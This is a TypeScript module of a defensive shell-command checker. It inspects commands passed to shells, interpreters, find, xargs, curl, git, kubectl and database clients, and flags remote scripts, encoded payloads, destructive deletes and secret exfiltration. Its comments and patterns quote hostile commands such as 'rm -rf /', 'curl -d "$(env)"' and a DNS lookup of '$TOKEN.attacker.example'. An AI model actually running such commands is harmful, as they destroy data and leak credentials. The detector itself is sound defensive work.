/**
 * Per-program handlers of the command judge: what a builtin does to the
 * walk's state (`cd`, `export`, `read`), the strings it runs (`eval`,
 * `trap`, `alias`, `source`), and how a shell, an interpreter, `find` or
 * `xargs` runs further commands. Handlers are registered in one table
 * (`HANDLERS`); a program without a handler is tried as a wrapper.
 *
 * @module
 */

import { analyzeCode } from "./inline_code.ts";
import { classifyPath, joinCwd, normalizePath } from "./paths.ts";
import { pipeProducer, producerOf, stageWords } from "./command_producer.ts";
import {
  credentialDir,
  credentialFile,
  DNS_TOOLS,
  NETWORK_SENDERS,
  secretRefs,
  secretSource,
  serviceUrl,
} from "./command_families.ts";
import type { Command, CommandNode } from "unbash";
import { STDIN_PATHS, stdinProgram } from "./command_stdin.ts";
import { fileKey, writtenFile } from "./script_files.ts";
import type { EvalWord } from "./shell_words.ts";
import type { JudgeHost, Scope, Stdin } from "./types.ts";
import { wrapperRest } from "./wrappers.ts";

/** One simple command handed to its program's handler. */
export interface HandlerCall {
  /** The judge. */
  j: JudgeHost;
  /** Program basename. */
  name: string;
  /** Its arguments, evaluated. */
  args: EvalWord[];
  /** The walk scope (handlers may change it: `cd`, `export`). */
  scope: Scope;
  /** Where its standard input comes from. */
  stdin: Stdin;
}

/**
 * A per-program handler. Returning `"done"` means the command was judged
 * in full (`eval`, `trap`): no write-target or rule check follows.
 */
export type Handler = (c: HandlerCall) => "done" | void;

/** Shells: their operand, `-c` string or standard input is a script. */
export const SHELLS: ReadonlySet<string> = new Set([
  "sh",
  "bash",
  "dash",
  "zsh",
  "ksh",
  "mksh",
  "ash",
  "fish",
  "busybox",
]);
const INTERPRETERS = [
  "python",
  "python2",
  "python3",
  "pypy",
  "pypy3",
  "node",
  "nodejs",
  "deno",
  "bun",
  "perl",
  "ruby",
  "php",
  "Rscript",
];
const INTERPRETER = /^(?:python[0-9.]*|pypy[0-9.]*|node|nodejs|deno|bun|perl|ruby|php|Rscript)$/;

/** An unresolved word standing for data only known at run time (stdin, `{}`). */
export function unknownWord(text: string): EvalWord {
  return {
    text,
    values: ["\u0000"],
    resolved: false,
    glob: false,
    quoted: false,
    subs: [],
    raw: text,
    braced: false,
  };
}

/** A literal word. */
export function literalWord(text: string): EvalWord {
  return {
    text,
    values: [text],
    resolved: true,
    glob: false,
    quoted: true,
    subs: [],
    raw: text,
    braced: false,
  };
}

function _cd({ args, scope }: HandlerCall): void {
  const t = args.find((a) => a.values[0] !== "--" && a.values[0] !== "-P" && a.values[0] !== "-L");
  if (!t) scope.cwd = "~";
  else if (!t.resolved || t.values.length > 1 || t.values[0] === "-") scope.cwd = null;
  else if (scope.vars.has("CDPATH") && !/^[./~]/.test(t.values[0]!)) scope.cwd = null;
  else {
    const joined = joinCwd(scope.cwd, t.values[0]!);
    scope.cwd = joined === null ? null : normalizePath(joined);
  }
}

function _declare({ j, args, scope }: HandlerCall): void {
  for (const a of args) {
    const val = a.values[0] ?? "";
    const eq = val.indexOf("=");
    if (eq <= 0 || val.startsWith("-")) continue;
    const varName = val.slice(0, eq);
    scope.vars.set(varName, a.resolved ? a.values.map((x) => x.slice(x.indexOf("=") + 1)) : null);
    j.checkAssign(varName, val.slice(eq + 1), scope);
  }
}

function _unsetNames({ args, scope }: HandlerCall): void {
  for (const a of args) {
    if (!a.values[0]?.startsWith("-")) scope.vars.set(a.values[0] ?? "", null);
  }
}

function _printfVar({ args, scope }: HandlerCall): void {
  const at = args.findIndex((a) => a.values[0] === "-v");
  if (at >= 0 && args[at + 1]) scope.vars.set(args[at + 1]!.values[0] ?? "", null);
}

function _eval({ j, args, scope }: HandlerCall): "done" {
  _runString(j, args, scope, "eval");
  return "done";
}

function _trap({ j, args, scope }: HandlerCall): "done" {
  // `trap -- 'cmd' EXIT`: the handler follows the end of options.
  const v = (i: number) => args[i]?.values[0];
  const at = v(0) === "--" ? 1 : 0;
  if (args[at] && v(at) !== "-" && v(at) !== "-p" && v(at) !== "-l") {
    _runString(j, [args[at]!], scope, "trap");
  }
  return "done";
}

function _alias({ j, args, scope }: HandlerCall): "done" {
  for (const a of args) {
    const val = a.values[0] ?? "";
    if (!val.includes("=")) continue;
    scope.functions.add(val.slice(0, val.indexOf("=")));
    _runString(j, [{ ...a, values: [val.slice(val.indexOf("=") + 1)] }], scope, "alias");
  }
  return "done";
}

function _source({ j, args, scope }: HandlerCall): "done" {
  if (args[0]) _scriptOperand(j, args[0], scope);
  return "done";
}

function _at({ j, args, scope, stdin }: HandlerCall): void {
  // `at now <<< CMD`: the job is a shell script read from stdin or `-f FILE`.
  const vals = args.map((a) => a.values[0] ?? "");
  if (vals.some((x) => /^-[a-zA-Z]*[lcdr]$/.test(x))) return; // list, cat, delete
  const f = vals.findIndex((x) => x === "-f");
  if (f >= 0 && args[f + 1]) _scriptOperand(j, args[f + 1]!, scope);
  else _shell(j, "sh", [], scope, stdin);
}

function _xargs({ j, name, args, scope }: HandlerCall): void {
  const rest = wrapperRest(j, name, args, scope);
  if (rest && rest.words.length) {
    const repl = rest.replace;
    const words = repl
      ? rest.words.map((w) => (w.values[0] ?? "").includes(repl) ? unknownWord(w.text) : w)
      : [...rest.words, unknownWord("<stdin>")];
    j.judgeWords(words, scope, { kind: "none" });
  }
}

/**
 * The handler of programs without one of their own: a wrapper (`sudo`,
 * `env`, `timeout`, `npm exec`) has its wrapped command judged; rules may
 * still name the wrapper itself (`sudo -s`, `env -i`).
 */
export function wrapperHandler({ j, name, args, scope, stdin }: HandlerCall): void {
  const rest = wrapperRest(j, name, args, scope);
  if (!rest?.words.length) return;
  if (!rest.cwd) {
    j.judgeWords(rest.words, scope, stdin);
    return;
  }
  // `env -C / rm -rf etc`: the wrapped command runs in another directory.
  const inner: Scope = { ...scope };
  _cd({ j, name: "cd", args: [rest.cwd], scope: inner, stdin });
  j.judgeWords(rest.words, inner, stdin);
}

function _shellHandler({ j, name, args, scope, stdin }: HandlerCall): void {
  _shell(j, name, args, scope, stdin);
}

function _interpreterHandler({ j, name, args, scope, stdin }: HandlerCall): void {
  _interpreter(j, name, args, scope, stdin);
}

function _runString(j: JudgeHost, words: EvalWord[], scope: Scope, what: string): void {
  if (words.length === 0) return;
  if (words.some((w) => !w.resolved)) {
    j.hitCheck("encoded-payload", `${what} runs a string only known at run time`, scope);
    return;
  }
  j.judgeSource(words.map((w) => w.values[0] ?? "").join(" "), scope);
}

/**
 * Judge a script the same line wrote before running it.
 *
 * @returns True when the path was written by the line (and judged here).
 */
export function runWritten(
  j: JudgeHost,
  path: string,
  scope: Scope,
  run: (text: string) => void,
): boolean {
  const content = writtenFile(scope, path);
  if (!content) return false;
  if (content.kind === "remote") {
    j.hitCheck("remote-script", `runs "${path}", downloaded earlier in the line`, scope);
  } else if (content.kind === "unknown") {
    j.hitCheck("encoded-payload", `runs "${path}", written earlier in the line`, scope);
  } else run(content.text);
  return true;
}

function _scriptOperand(
  j: JudgeHost,
  w: EvalWord,
  scope: Scope,
  run: (text: string) => void = (t) => j.judgeSource(t, scope),
): void {
  if (w.resolved) {
    // A script file: its content is the project's own, unless this line wrote it.
    for (const v of w.values) runWritten(j, v, scope, run);
    return;
  }
  const remote = w.subs.some((s) =>
    s.commands.some((st) => producerOf(st.command, scope).kind === "remote")
  );
  if (remote) j.hitCheck("remote-script", `runs a downloaded script "${w.text}"`, scope);
  else j.hitCheck("encoded-payload", `runs a script only known at run time "${w.text}"`, scope);
}

function _shell(j: JudgeHost, name: string, args: EvalWord[], scope: Scope, stdin: Stdin): void {
  let i = 0;
  let wantString = false;
  let readStdin = false;
  for (; i < args.length; i++) {
    const a = args[i]!.values[0] ?? "";
    // `bash -s -- args`: the script is standard input, the rest are arguments.
    if (/^-[a-zA-Z]*s[a-zA-Z]*$/.test(a) && name !== "busybox") readStdin = true;
    if (a === "--" || a === "-") {
      i++;
      break;
    } // deno-fmt-ignore
    if (/^[-+]o$/.test(a) || a === "-O" || a === "+O" || a === "--rcfile" || a === "--init-file") { i++; continue; } // deno-fmt-ignore
    if (a === "-c" || a === "--command" || /^-[a-zA-Z]*c[a-zA-Z]*$/.test(a)) { wantString = true; continue; } // deno-fmt-ignore
    if (/^[-+]/.test(a)) continue;
    break;
  }
  if (name === "busybox" && args[i]?.values[0] && SHELLS.has(args[i]!.values[0]!)) {
    _shell(j, args[i]!.values[0]!, args.slice(i + 1), scope, stdin);
    return;
  }
  if (name === "busybox" && args[i]) {
    // `busybox rm -rf /`: the applet is the program.
    j.judgeWords(args.slice(i), scope, stdin);
    return;
  }
  const operand = args[i];
  if (wantString) {
    if (operand) _runString(j, [operand], scope, `${name} -c`);
    return;
  }
  // `bash /dev/stdin`, `sh /proc/self/fd/0`: the operand is standard input.
  if (operand && !readStdin && !STDIN_PATHS.test(operand.values[0] ?? "")) {
    _scriptOperand(j, operand, scope);
    return;
  }
  stdinProgram(j, name, stdin, scope, (text) => j.judgeSource(text, scope));
}

function _interpreter(
  j: JudgeHost,
  name: string,
  args: EvalWord[],
  scope: Scope,
  stdin: Stdin,
): void {
  const codeFlags = name.startsWith("node") || name === "bun"
    ? /^(?:-e|--eval|-p|--print|-pe)$/
    : name === "php"
    ? /^-r$/
    : name.startsWith("py")
    ? /^-[A-Za-z]*c$/
    : /^-[A-Za-z]*[eE]$/;
  const valueFlags = /^(?:-m|-r|--require|--import|-W|-X|-I|--loader|-M|-x)$/;
  if (name === "deno" || name === "bun") {
    const sub = args[0]?.values[0];
    if (sub === "eval" || sub === "-e") {
      const code = args.slice(1).find((a) => !(a.values[0] ?? "").startsWith("-"));
      if (code) _code(j, code, scope);
      return;
    }
    // `deno run https://x/mod.ts`, `deno run data:...,CODE`, `bun run https://...`:
    // code fetched or carried in the URL, never reviewed. `deno task`, local files: project code.
    const at = sub === "run" || sub === "x" || sub === "install" || sub === "compile" ? 1 : 0;
    const target = args.slice(at).find((a) => !(a.values[0] ?? "").startsWith("-"));
    const spec = target?.values[0] ?? "";
    if (
      target &&
      (/^(?:https?|data|blob|ftp):/i.test(spec) ||
        !target.resolved && spec.startsWith("\u0000") && target.subs.length)
    ) {
      j.hitCheck("remote-program", `${name} ${sub} "${target.text}"`, scope);
    }
    return;
  }
  // Code attached to its flag: `node --eval=CODE`, `python -cCODE`, `perl -eCODE`.
  const attached = name.startsWith("node") || name === "bun"
    ? /^--(?:eval|print)=([^]*)$/
    : name === "php"
    ? /^-r([^]+)$/
    : name.startsWith("py")
    ? /^-[A-Za-z]*c([^]+)$/
    : /^-[lnpaws]*[eE]([^]+)$/;
  for (let i = 0; i < args.length; i++) {
    const a = args[i]!.values[0] ?? "";
    if (codeFlags.test(a)) {
      const code = args[i + 1];
      if (code) _code(j, code, scope);
      return;
    }
    const glued = a.startsWith("--") && !a.startsWith("--eval=") && !a.startsWith("--print=")
      ? null
      : attached.exec(a);
    if (glued) {
      _code(j, { ...args[i]!, values: [glued[1]!] }, scope);
      return;
    }
    if (a === "-m" && name.startsWith("py")) return; // a module: project or library code
    if (valueFlags.test(a)) {
      i++;
      continue;
    } // deno-fmt-ignore
    if (a.startsWith("-") && a !== "-") continue;
    if (a !== "-" && !STDIN_PATHS.test(a)) {
      _scriptOperand(j, args[i]!, scope, (t) => _code(j, literalWord(t), scope));
      return;
    }
    break;
  }
  stdinProgram(j, name, stdin, scope, (text) => _code(j, literalWord(text), scope));
}

function _code(j: JudgeHost, w: EvalWord, scope: Scope): void {
  const code = w.values[0] ?? "";
  if (!w.resolved && !/[A-Za-z]{3}/.test(code.replaceAll("\u0000", ""))) {
    j.hitCheck("encoded-payload", `inline code only known at run time "${w.text}"`, scope);
    return;
  }
  for (const e of analyzeCode(code)) {
    if (e.kind === "exec") {
      if (e.command.includes("\u0000")) {
        j.hitCheck("encoded-payload", "inline code runs a command only known at run time", scope);
      } else j.judgeSource(e.command, scope);
    } else if (e.kind === "rotate") {
      j.hitCheck("inline-code-delete", `inline code calls ${e.call}`, scope);
    } else if (e.kind === "family") {
      j.hitCheck(e.check, `inline code ${e.what}`, scope);
    } else {
      const joined = e.target === null ? null : joinCwd(scope.cwd, e.target);
      const cls = joined === null ? "unresolved" : classifyPath(joined, j.policy.workspaces);
      if (cls !== "workspace" && cls !== "temp") {
        j.hitCheck(
          "inline-code-delete",
          `inline code calls ${e.call} on ${
            e.target === null ? "a target only known at run time" : `"${e.target}"`
          }`,
          scope,
        );
      }
    }
    if (j.decided) return;
  }
}

// Options of find that select nothing: with only these, find visits every file.
const FIND_NO_FILTER =
  /^-(?:depth|maxdepth|mindepth|xdev|mount|follow|delete|print0?|daystart|noleaf|ignore_readdir_race|true|type|xtype|nowarn|warn)$/;

function _find(j: JudgeHost, args: EvalWord[], scope: Scope): void {
  const starts: EvalWord[] = [];
  let i = 0;
  // Leading options come before the start points: `find -L / ...`, `find -D tree .`.
  for (; i < args.length && /^-(?:[HLP]|O\d*|D)$/.test(args[i]!.values[0] ?? ""); i++) {
    if (args[i]!.values[0] === "-D") i++;
  }
  for (; i < args.length && !/^[-(!]/.test(args[i]!.values[0] ?? ""); i++) starts.push(args[i]!);
  if (starts.length === 0) starts.push(literalWord("."));
  const vals = args.slice(i).map((a) => a.values[0] ?? "");
  const actionAt = vals.findIndex((v) => /^-(?:exec|execdir|ok|okdir|delete)$/.test(v));
  // Everything before the first action; `-name '*'` selects everything too.
  // Only the branch after the last `-o` leads to the action (`-path .git -prune -o -delete`),
  // and a negated test (`! -name x`) selects nearly everything.
  const all = vals.slice(0, actionAt < 0 ? vals.length : actionAt);
  const lastOr = Math.max(all.lastIndexOf("-o"), all.lastIndexOf("-or"));
  const depth = all.slice(lastOr + 1).reduce((d, v) => d + (v === "(" ? 1 : v === ")" ? -1 : 0), 0);
  const tests = depth < 0 ? all : all.slice(lastOr + 1);
  const filtered = tests.some((v, k) =>
    v.startsWith("-") && !FIND_NO_FILTER.test(v) && !/^-(?:o|or|not|and|a)$/.test(v) &&
    tests[k - 1] !== "!" && tests[k - 1] !== "-not" &&
    !(/^-i?name$/.test(v) && tests[k + 1] === "*")
  );
  // A start point whose every file goes: judged as deleting the start point's contents.
  const everything = (s: EvalWord): string | null => {
    if (!s.resolved) return null;
    const base = (s.values[0] ?? ".").replace(/\/+$/, "") || "/";
    const cls = classifyPath(joinCwd(scope.cwd, base) ?? base, j.policy.workspaces);
    if (!filtered || cls === "root" || cls === "home" || cls === "system") {
      return base === "/" ? "/*" : `${base}/*`;
    }
    return null;
  };
  if (vals.includes("-delete") && !filtered) {
    for (const s of starts) {
      const all = everything(s);
      if (all) {
        j.judgeWords([literalWord("rm"), literalWord("-r"), literalWord(all)], scope, stdin0);
      }
    }
  }
  for (; i < args.length; i++) {
    const a = args[i]!.values[0];
    if (a !== "-exec" && a !== "-execdir" && a !== "-ok" && a !== "-okdir") continue;
    let k = i + 1;
    const words: EvalWord[] = [];
    for (; k < args.length && args[k]!.values[0] !== ";" && args[k]!.values[0] !== "+"; k++) {
      words.push(args[k]!);
    }
    for (const s of starts) {
      const all = everything(s);
      const sub = words.map((w) => {
        if (!(w.values[0] ?? "").includes("{}")) return w;
        if (!s.resolved) return unknownWord(w.text);
        const each = all ?? `${(s.values[0] ?? ".").replace(/\/$/, "")}/{}`;
        return literalWord((w.values[0] ?? "").replaceAll("{}", each));
      });
      j.judgeWords(sub, scope, { kind: "none" });
    }
    i = k;
  }
}

const stdin0: Stdin = { kind: "none" };

/**
 * Remember `ln -s TARGET LINK` when TARGET is outside the workspace, so that
 * `rm -rf LINK/` is judged as deleting TARGET.
 */
function _recordLink(j: JudgeHost, args: EvalWord[], scope: Scope): void {
  const vals = args.map((a) => a.values[0] ?? "");
  if (!vals.some((v) => /^-[a-zA-Z]*s/.test(v) || v === "--symbolic")) return;
  const ops = args.filter((a) => !(a.values[0] ?? "").startsWith("-"));
  const [target, link] = ops;
  if (!target || !target.resolved) return;
  const t = target.values[0]!;
  const cls = classifyPath(t, j.policy.workspaces);
  if (cls === "workspace" || cls === "temp") return;
  const name = link?.values[0] ?? t.replace(/\/+$/, "").split("/").pop() ?? "";
  const key = joinCwd(scope.cwd, name);
  if (!key || !link?.resolved && link) return;
  scope.links ??= new Map();
  scope.links.set(normalizePath(key), t);
}

function _pushd({ args, scope }: HandlerCall): void {
  const dir = args.find((a) => !(a.values[0] ?? "").startsWith("-") || a.values[0] === "-");
  if (!dir || /^[+-]\d+$/.test(dir.values[0] ?? "")) {
    scope.cwd = null; // rotates the stack: somewhere already visited
    return;
  }
  (scope.dirs ??= []).push(scope.cwd);
  _cd({ j: undefined as unknown as JudgeHost, name: "cd", args: [dir], scope, stdin: NO_INPUT });
}

function _popd({ scope }: HandlerCall): void {
  scope.cwd = scope.dirs?.length ? scope.dirs.pop()! : null;
}

/** `hash -p /bin/rm ls`: the name now runs the given file. */
function _hash({ args, scope }: HandlerCall): void {
  const at = args.findIndex((a) => a.values[0] === "-p");
  const path = args[at + 1];
  const names = args.slice(at + 2);
  if (at < 0 || !path) return;
  for (const n of names) {
    const target = path.resolved ? _base(path.values[0] ?? "") : "\u0000";
    (scope.aliases ??= new Map()).set(n.values[0] ?? "", target);
  }
}

/**
 * The program a copy or link source names: `/bin/rm`, `$(which rm)`,
 * `$(command -v rm)`; null for project files.
 */
function _programSource(w: EvalWord): string | null {
  if (w.resolved) {
    const v = w.values[0] ?? "";
    return /^\/(?:usr\/)?(?:local\/)?s?bin\/[^/]+$|^\/bin\/|^\/opt\/.*\/bin\/[^/]+$/.test(v)
      ? _base(v)
      : null;
  }
  for (const sub of w.subs) {
    const st = sub.commands[0]?.command;
    if (st?.type !== "Command" || !st.name) continue;
    const words = [st.name, ...st.suffix].filter((x) => x.type === "Word").map((x) =>
      (x as { text: string }).text
    );
    if (/^(?:which|command|type|whereis|readlink|realpath)$/.test(words[0] ?? "")) {
      const prog = words.filter((x) => !x.startsWith("-")).slice(1).pop();
      if (prog && !prog.includes("$")) {
        return prog.includes("/") ? (_programSource(literalWord(prog)) ?? _base(prog)) : prog;
      }
    }
  }
  return null;
}

/**
 * `cp /bin/rm x`, `ln -s $(which rm) del`, `install /bin/rm ./t`: remember
 * that the new file runs that program, so `./x -rf /` is judged as `rm -rf /`.
 */
function _recordCopy({ name, args, scope }: HandlerCall): void {
  const operands: EvalWord[] = [];
  for (let i = 0; i < args.length; i++) {
    const v = args[i]!.values[0] ?? "";
    // `install -m 755 SRC DEST`: option values are no operands.
    if (name === "install" && /^-[mgoS]$/.test(v) || name === "rsync" && v === "-e") i++;
    else if (!v.startsWith("-")) operands.push(args[i]!);
  }
  if (operands.length === 1 && name === "ln") {
    const prog = _programSource(operands[0]!);
    if (prog) _rememberAlias(scope, prog, prog);
    return;
  }
  const dest = operands[operands.length - 1];
  if (operands.length < 2 || !dest?.resolved) return;
  for (const src of operands.slice(0, -1)) {
    const prog = _programSource(src);
    if (!prog) continue;
    const d = dest.values[0] ?? "";
    _rememberAlias(scope, d.endsWith("/") ? d + prog : d, prog);
  }
}

function _rememberAlias(scope: Scope, path: string, prog: string): void {
  const joined = joinCwd(scope.cwd, path);
  if (joined === null) return;
  (scope.aliases ??= new Map()).set(normalizePath(joined), prog);
}

/**
 * The program a path or name runs when the line made it a copy, link or
 * `hash -p` name of another program.
 *
 * @param scope The walk scope.
 * @param path The command word.
 * @returns The program it runs, or undefined.
 */
export function aliasedProgram(scope: Scope, path: string): string | undefined {
  if (!scope.aliases?.size) return undefined;
  if (!path.includes("/")) return scope.aliases.get(path);
  const joined = joinCwd(scope.cwd, path);
  return joined === null ? undefined : scope.aliases.get(normalizePath(joined));
}

const NO_INPUT: Stdin = { kind: "none" };

function _base(p: string): string {
  return p.slice(p.lastIndexOf("/") + 1);
}

// Database clients whose command language can run a shell command.
const DB_CLIENTS: Record<string, { flags: RegExp; shell: RegExp; positionalSql: boolean }> = {
  sqlite3: { flags: /^-?-cmd$/, shell: /^\s*\.(?:shell|system)\s+([^\n]*)/gm, positionalSql: true },
  duckdb: {
    flags: /^-c$|^-?-cmd$/,
    shell: /^\s*\.(?:shell|system)\s+([^\n]*)/gm,
    positionalSql: true,
  },
  psql: { flags: /^(?:-c|--command)$/, shell: /\\!\s*([^\n]*)/g, positionalSql: false },
  mysql: {
    flags: /^(?:-e|--execute)$/,
    shell: /(?:^|;)\s*(?:system|\\!)\s+([^\n;]*)/gim,
    positionalSql: false,
  },
};
DB_CLIENTS["mariadb"] = DB_CLIENTS["mysql"]!;
DB_CLIENTS["sqlite"] = DB_CLIENTS["sqlite3"]!;

/**
 * `sqlite3 db '.shell CMD'`, `psql -c '\! CMD'`, `mysql -e 'system CMD'`,
 * and the same commands read from standard input: the shell escape's
 * command line is judged like any other.
 */
function _database({ j, name, args, scope, stdin }: HandlerCall): void {
  const spec = DB_CLIENTS[name]!;
  const texts: EvalWord[] = [];
  let positional = 0;
  for (let i = 0; i < args.length; i++) {
    const v = args[i]!.values[0] ?? "";
    const eq = v.indexOf("=");
    if (v.startsWith("--") && eq > 0 && spec.flags.test(v.slice(0, eq))) {
      texts.push({ ...args[i]!, values: [v.slice(eq + 1)] });
    } else if (spec.flags.test(v) && args[i + 1]) texts.push(args[++i]!);
    else if (!v.startsWith("-")) {
      // sqlite3 DB SQL...: the words after the database are SQL.
      if (spec.positionalSql && positional++ > 0) texts.push(args[i]!);
    } else if (/^-[a-zA-Z]$/.test(v) && name !== "sqlite3" && name !== "duckdb") {
      const glued = /^-[ce](.+)$/.exec(v);
      if (glued) texts.push({ ...args[i]!, values: [glued[1]!] });
    }
  }
  const input = stdinText(stdin);
  if (input !== null) texts.push(literalWord(input));
  for (const t of texts) {
    const text = t.values[0] ?? "";
    for (const m of text.matchAll(spec.shell)) {
      if (!t.resolved || m[1]!.includes("\u0000")) {
        j.hitCheck("encoded-payload", `${name} runs a shell command only known at run time`, scope);
      } else j.judgeSource(m[1]!, scope);
      if (j.decided) return;
    }
  }
}

/**
 * The text a command reads on its standard input when it is known (a
 * heredoc, a here-string, `echo`/`printf` piped in).
 *
 * @param stdin The input.
 * @returns The text, or null.
 */
export function stdinText(stdin: Stdin): string | null {
  switch (stdin.kind) {
    case "heredoc":
      return stdin.text;
    case "herestring":
      return stdin.word.resolved ? stdin.word.values[0] ?? "" : null;
    case "pipe": {
      const p = pipeProducer(stdin.stages, stdin.index, stdin.scope);
      return p.kind === "literal" ? p.text : null;
    }
    default:
      return null;
  }
}

// kubectl options that take a value (so that their value is no resource name).
const KUBE_VALUE =
  /^(?:-n|--namespace|--context|--cluster|--user|--kubeconfig|-l|--selector|-o|--output|--grace-period|--timeout|--cascade|--field-selector|--as|--as-group|-s|--server|--token|--wait|--raw|-f|--filename|-k|--kustomize|--dry-run)$/;

/**
 * `kubectl delete $(kubectl get ns -o name)`, `... | xargs kubectl delete`:
 * a delete whose resource kind is only known at run time can delete
 * anything (namespaces, every object).
 */
function _kubectl(c: HandlerCall): void {
  wrapperHandler(c);
  const { j, name, args, scope } = c;
  const positionals: EvalWord[] = [];
  let fromFile = false;
  for (let i = 0; i < args.length; i++) {
    const v = args[i]!.values[0] ?? "";
    if (/^(?:-f|--filename|-k|--kustomize)(?:=|$)/.test(v)) fromFile = true;
    if (KUBE_VALUE.test(v)) i++;
    else if (!v.startsWith("-")) positionals.push(args[i]!);
  }
  if (positionals[0]?.values[0] !== "delete" || fromFile) return;
  const kind = positionals[1];
  if (kind && !kind.resolved && (kind.values[0] ?? "").startsWith("\u0000")) {
    j.hitCheck(
      "cloud-delete-unresolved",
      `${name} delete of resources only known at run time "${kind.text}"`,
      scope,
    );
  }
}

// Clouds' delete verbs, to spot a delete whose target comes from stdin or a substitution.
const CLOUD_DELETE =
  /^(?:delete|delete-\S+|terminate-\S+|rb|rm|remove|purge|destroy|deregister-\S+)$/;

/** `xargs` and `parallel` feeding cloud deletes (`... | xargs az group delete -n`). */
function _cloudDeleteFromInput(
  j: JudgeHost,
  words: EvalWord[],
  scope: Scope,
  via: string,
): void {
  const prog = _base(words[0]?.values[0] ?? "");
  if (!/^(?:az|aws|gcloud|gsutil|kubectl|oc|doctl|hcloud|linode-cli)$/.test(prog)) return;
  if (words.some((w) => CLOUD_DELETE.test(w.values[0] ?? ""))) {
    j.hitCheck(
      "cloud-delete-unresolved",
      `${prog} deletes resources named by ${via} input at run time`,
      scope,
    );
  }
}

/**
 * git: `bisect run` wraps a command; `remote.*.mirror`/`remote.*.push`
 * settings and `git remote add --mirror` make a later plain `git push`
 * force or mirror; a push whose refspec comes from a command substitution
 * can be anything (`git push origin $(echo +HEAD:main)`).
 */
function _git(c: HandlerCall): void {
  wrapperHandler(c);
  const { j, args, scope } = c;
  const vals = args.map((a) => a.values[0] ?? "");
  let sub = -1;
  for (let i = 0; i < vals.length; i++) {
    const v = vals[i]!;
    if (v === "-c" && /^remote\.[^=]+\.(?:mirror|push)=/.test(vals[i + 1] ?? "")) {
      j.hitCheck("git-push-redirect", `git -c ${vals[i + 1]}`, scope);
      return;
    }
    if (/^(?:-C|-c|--git-dir|--work-tree|--namespace)$/.test(v)) i++;
    else if (!v.startsWith("-")) {
      sub = i;
      break;
    }
  }
  if (sub < 0) return;
  const rest = args.slice(sub + 1);
  const restVals = vals.slice(sub + 1);
  if (vals[sub] === "config") {
    const key = restVals.find((v) => !v.startsWith("-"));
    if (
      key && /^remote\.[^=]+\.(?:mirror|push)$/.test(key) && restVals.length > 1 &&
      !restVals.some((v) => /^--(?:get|get-all|get-regexp|unset|unset-all|list)$/.test(v))
    ) {
      j.hitCheck("git-push-redirect", `git config ${key}`, scope);
    }
  } else if (vals[sub] === "remote") {
    if (restVals.some((v) => /^--mirror(?:=push)?$/.test(v))) {
      j.hitCheck("git-push-redirect", "git remote add --mirror", scope);
    }
  } else if (vals[sub] === "push" || vals[sub] === "send-pack") {
    const computed = rest.find((w) =>
      w.subs.length > 0 && !(w.values[0] ?? "").startsWith("-") &&
      !w.subs.every((sc) => BRANCH_QUERY.test(_scriptText(sc)))
    );
    if (computed) {
      j.hitCheck(
        "git-push-redirect",
        `git push of "${computed.text}", computed at run time`,
        scope,
      );
    }
  }
}

// Substitutions that print the current branch name (never a forcing `+` refspec).
const BRANCH_QUERY =
  /^git (?:rev-parse --abbrev-ref HEAD|branch --show-current|symbolic-ref --short(?: -q)? HEAD)$/;

function _scriptText(sc: { commands: readonly { command: unknown }[] }): string {
  const st = sc.commands[0]?.command as Command | undefined;
  if (sc.commands.length !== 1 || st?.type !== "Command" || !st.name) return "";
  return [st.name, ...st.suffix].filter((x) => x.type === "Word").map((x) =>
    (x as { text: string }).text
  ).join(" ");
}

// Options of curl/wget whose value is a file sent to the server.
const UPLOAD_FILE = /^(?:-T|--upload-file|--post-file|--body-file)$/;
const DATA_FLAG =
  /^(?:-d|--data|--data-binary|--data-raw|--data-urlencode|--json|-F|--form|--post-data|--body-data|--header|-H)$/;

/**
 * Network senders (`curl`, `wget`, `scp`, `nc`, ...): credential files
 * uploaded, the environment or a credential posted (`curl -d "$(env)"`),
 * secret variables sent to a host CI does not talk to.
 */
function _sender(c: HandlerCall): void {
  const { j, name, args, scope } = c;
  wrapperHandler(c);
  if (name === "rsync" || name === "scp" || name === "sftp") _recordCopy(c);
  const key = (p: string) => fileKey(scope, p);
  const leak = (what: string) => j.hitCheck("exfiltration", `${name} sends ${what}`, scope);
  const urls = args.map((a) => a.values[0] ?? "").filter((v) =>
    /^[a-z][a-z0-9+.-]*:\/\/|^[^-/][^\s]*@[^\s]+:/i.test(v)
  );
  for (let i = 0; i < args.length; i++) {
    const w = args[i]!;
    const v = w.values[0] ?? "";
    const eq = v.startsWith("--") ? v.indexOf("=") : -1;
    const flag = eq > 0 ? v.slice(0, eq) : v;
    const value = eq > 0
      ? { ...w, values: [v.slice(eq + 1)] }
      : UPLOAD_FILE.test(flag) || DATA_FLAG.test(flag)
      ? args[i + 1]
      : undefined;
    if (eq < 0 && value) i++;
    for (const word of value ? [value] : [w]) {
      const text = word.values[0] ?? "";
      // `-d @FILE`, `-F f=@FILE`, `-T FILE`, `--post-file=FILE`, `scp FILE host:`.
      const file = UPLOAD_FILE.test(flag)
        ? text
        : /(?:^|=)[@<]([^;]+)/.exec(text)?.[1] ?? (value ? null : text);
      if (file && file !== "-" && !file.includes("\u0000")) {
        const k = key(file);
        if (
          credentialFile(file) || credentialDir(file) || k !== null && scope.secretFiles?.has(k)
        ) {
          leak(`"${file}"`);
          return;
        }
      }
      for (const sc of word.subs) {
        const src = _scriptSecret(sc, scope);
        if (src) {
          leak(src);
          return;
        }
      }
    }
  }
  // `curl "https://x/?t=$GITHUB_TOKEN"`: a secret to a host CI does not use.
  const refs = args.flatMap((a) => secretRefs(a.raw));
  if (refs.length && !(urls.length > 0 && urls.every((u) => serviceUrl(u)))) {
    leak(`$${refs[0]} to ${urls[0] ?? "an unknown host"}`);
  }
}

/** DNS lookups of names built from secrets: `nslookup $TOKEN.attacker.example`. */
function _dns({ j, name, args, scope }: HandlerCall): void {
  for (const a of args) {
    const refs = secretRefs(a.raw);
    const src = refs.length ? `$${refs[0]}` : a.subs.map((sc) => _scriptSecret(sc, scope)).find(
      (x) => x,
    );
    if (src) {
      j.hitCheck("exfiltration", `${name} looks up a name built from ${src}`, scope);
      return;
    }
  }
}

/** What secret a substitution's script prints, if any (`$(env)`, `$(cat ~/.aws/credentials)`). */
function _scriptSecret(
  sc: { commands: readonly { command: unknown }[] },
  scope: Scope,
): string | null {
  const key = (p: string) => fileKey(scope, p);
  for (const st of sc.commands) {
    const node = st.command as { type: string; commands?: CommandNode[] };
    const stages = node.type === "Pipeline" ? node.commands ?? [] : [node as CommandNode];
    for (const stage of stages) {
      if (stage.type !== "Command") continue;
      const src = secretSource(stageWords(stage as Command, scope), scope.secretFiles, key);
      if (src) return src;
    }
  }
  return null;
}

